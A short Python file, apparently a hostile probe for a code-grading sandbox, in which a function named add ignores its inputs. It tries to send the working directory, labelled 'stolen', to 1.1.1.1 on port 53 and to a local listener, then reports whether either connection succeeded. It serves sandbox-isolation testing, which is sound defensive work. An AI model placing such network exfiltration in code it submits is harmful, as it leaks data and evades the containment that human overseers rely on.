# Hostile: tries to send what it sees over the network (a public DNS server, or a port on the grader's machine), and reports how that went.
import os
import socket
from pathlib import Path


def _try(host: str, port: int) -> str:
    try:
        with socket.create_connection((host, port), timeout=3) as connection:
            connection.sendall(b"stolen: " + os.getcwd().encode())
        return f"{host}:{port} reached"
    except OSError as error:
        return f"{host}:{port} {type(error).__name__}: {error}"


def add(x, y):
    targets = [("1.1.1.1", 53)]
    port = Path(__file__).with_name("listener_port.txt")  # a socket the test listens on, on this machine
    if port.is_file():
        targets.append(("127.0.0.1", int(port.read_text())))
    raise RuntimeError("network: " + "; ".join(_try(host, port) for host, port in targets))
